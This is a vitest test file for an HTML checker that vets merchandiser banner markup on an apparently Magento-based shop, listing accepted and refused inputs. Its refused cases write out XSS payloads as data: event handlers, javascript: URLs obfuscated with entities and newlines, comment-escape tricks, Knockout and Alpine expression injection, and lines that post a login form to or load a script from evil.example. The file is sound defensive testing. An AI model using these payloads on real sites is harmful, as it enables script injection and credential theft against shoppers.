/** A merchandiser's HTML: whole and harmless passes; what would break the page or run code is refused. */

import { describe, expect, it } from "vitest";
import { checkHtml, isWhole } from "../../src/core/html.ts";

describe("passes", () => {
  it.each([
    ["plain text", "Hello"],
    ["nothing", ""],
    ["nested elements", '<div class="a"><h2>Hi &amp; bye</h2><p>1 &lt; 2<br>x</p></div>'],
    ["attributes in all spellings", `<a href='/x' data-a=b hidden title="a > b">x</a>`],
    ["an image", '<img src="/media/hero.jpg" srcset="/a.jpg 1x, /b.jpg 2x" alt="A coat">'],
    [
      "a picture",
      '<picture><source srcset="/m.jpg" media="(max-width: 600px)"><img src="/d.jpg" alt=""></picture>',
    ],
    ["a style element", "<style>.x > .y { color: red }</style><p>x</p>"],
    ["inline svg", '<svg viewBox="0 0 1 1"><path d="M0 0"/><g><circle r="1"/></g></svg>'],
    ["a comment", "<!-- <b> --><!----><!-- -> - --><p>x</p>"],
    ["a button that sends the page's form to the shop", '<button form="a" formaction="/x/y?z=1">x</button>'],
    ["a style in an svg", "<svg><style>.a { fill: red }</style><path/></svg>"],
    ["upper case", "<DIV><P>x</P></DIV>"],
    [
      "a button as Page Builder writes it",
      '<button type="button" class="pagebuilder-banner-button">Shop</button>',
    ],
    ["a custom element", "<x-hero><span>x</span></x-hero>"],
  ])("%s", (_, html) => {
    expect(checkHtml(html)).toEqual([]);
  });
});

describe("what breaks the page or runs code", () => {
  it.each([
    ["an element that is never closed", "<div><p>x</p>", "<div> is never closed"],
    ["an end without a beginning", "x</div>", "</div> closes an element that was not opened here"],
    ["crossed elements", "<b><i>x</b></i>", "<i> is not closed before </b>"],
    ["the end of the page", "<p>x</p></body>", "<body> is refused in a banner"],
    ["a script", "<script>alert(1)</script>", "<script> is refused in a banner"],
    ["a handler", '<img src="x" onerror="alert(1)">', 'onerror="…" on <img> is code and is refused'],
    ["a script URL", '<a href="javascript:alert(1)">x</a>', 'href="…" on <a> is a script URL and is refused'],
    ["a script URL with a newline in it", '<a href="java\nscript:alert(1)">x</a>', "script URL"],
    ["a script URL in entities", '<a href="&#106;avascript&colon;alert(1)">x</a>', "script URL"],
    ["a script URL without quotes", "<a href=javascript:alert(1)>x</a>", "script URL"],
    ["a form", '<form action="/x"></form>', "<form> is refused in a banner"],
    ["a frame", '<iframe src="/x"></iframe>', "<iframe> is refused in a banner"],
    ["a base", '<base href="//evil.example/">', "<base> is refused in a banner"],
    ["a tag without its end", "<p>x</p><a href=", "does not end properly"],
    ["an attribute without its end", '<a href="x>y</a>', "does not end properly"],
    ["an open comment", "<p>x</p><!-- y", "a comment is never closed"],
    ["a bare less-than sign", "1 < 2", 'write "&lt;"'],
    ["a style that is never closed", "<style>.x{}", "<style> is never closed"],
    ["a self-closing div", "<div/>x", "<div/> does not close itself"],
    [
      "a comment that ends at once in browsers",
      "<!--><img src=x onerror=alert(1)>-->",
      "is no comment everywhere",
    ],
    ["the same with a hyphen", "<!---><img src=x onerror=alert(1)>-->", "is no comment everywhere"],
    ["a comment with another end", "<!-- --!><img src=x onerror=alert(1)> -->", "is no comment everywhere"],
    [
      "a tag in a style, which is one in an svg",
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      'write "\\3c" for "<"',
    ],
    ["a script URL behind zeros", '<a href="&#x0000006A;avascript:alert(1)">x</a>', "script URL"],
    ["a script URL behind decimal zeros", '<a href="&#0000000106;avascript:alert(1)">x</a>', "script URL"],
    [
      "the page's form for another host",
      '<button form="login" formaction="https://evil.example/">x</button>',
      'formaction="…" on <button> is refused',
    ],
    [
      "the same without a scheme",
      '<button formaction="/\t/evil.example">x</button>',
      'formaction="…" on <button> is refused',
    ],
    [
      "what RequireJS would load for Luma",
      `<div data-mage-init='{"https://evil.example/x.js":{}}'></div>`,
      "is code and is refused",
    ],
    ["what Luma's Knockout would run", '<p data-bind="text: alert(1)">x</p>', "is code and is refused"],
    ["the same as a comment", "<!-- ko text: alert(1) --><!-- /ko -->", "is no comment everywhere"],
    ["what Hyvä's Alpine would run", '<p x-data x-init="alert(1)">x</p>', "is code and is refused"],
    ["its handlers", '<p @click.window="alert(1)">x</p>', "is code and is refused"],
    ["its bindings", '<p :class="alert(1)">x</p>', "is code and is refused"],
    ["an svg that moves an attribute", '<svg><animate attributeName="href"/></svg>', "<animate> is refused"],
  ])("is refused: %s", (_, html, expected) => {
    expect(checkHtml(html).join("\n")).toContain(expected);
  });

  it("what a theme's scripts run is let through by the same word as handlers", () => {
    const html = `<p x-data @click="go()" data-mage-init='{"a":{}}'><!-- ko if: a --><!-- /ko --></p>`;
    expect(checkHtml(html, ["handlers"])).toEqual([]);
    expect(checkHtml(html, ["script"]).length).toBe(5);
  });

  it("at most ten sentences, and 64 KB", () => {
    expect(checkHtml("<b>".repeat(50_000))).toEqual(["at most 64 KB of HTML, found 147 KB"]);
    expect(checkHtml("</i>".repeat(1000)).length).toBeLessThanOrEqual(10);
  });
});

describe("HTML that Commerce has itself", () => {
  it.each([
    [
      "a script, as a widget brings it",
      '<div data-mage-init="{}"></div><script>if (1 < 2) go("</b>");</script>',
    ],
    ["a handler", '<a onclick="go()" href="javascript:void(0)">x</a>'],
    [
      "a form",
      '<form><label>x <input name="a"></label><select><option>1</option></select><textarea><b></textarea></form>',
    ],
    ["a film", '<iframe srcdoc="<p>" src="https://film.example/1"></iframe>'],
    ["what is less than something", "<p>1 < 2 and <3 you</p>"],
    ["more than a campaigns file may hold", `<p>${"x".repeat(100_000)}</p>`],
  ])("is whole with %s", (_, html) => {
    expect(isWhole(html)).toBe(true);
  });

  it.each([
    ["an element left open", "<div><p>x</p>"],
    ["a script left open", "<script>x"],
    ["a comment left open", "<!-- x"],
    ["an end too many", "<p>x</p></div></div>"],
    ["the page's own elements", "<p>x</p></body>"],
    ["a page of its own", "<!doctype html><html><body>x</body></html>"],
    ["what swallows the rest", "<plaintext>"],
    ["a tag without an end", "<p title='x"],
  ])("is not with %s", (_, html) => {
    expect(isWhole(html)).toBe(false);
  });
});
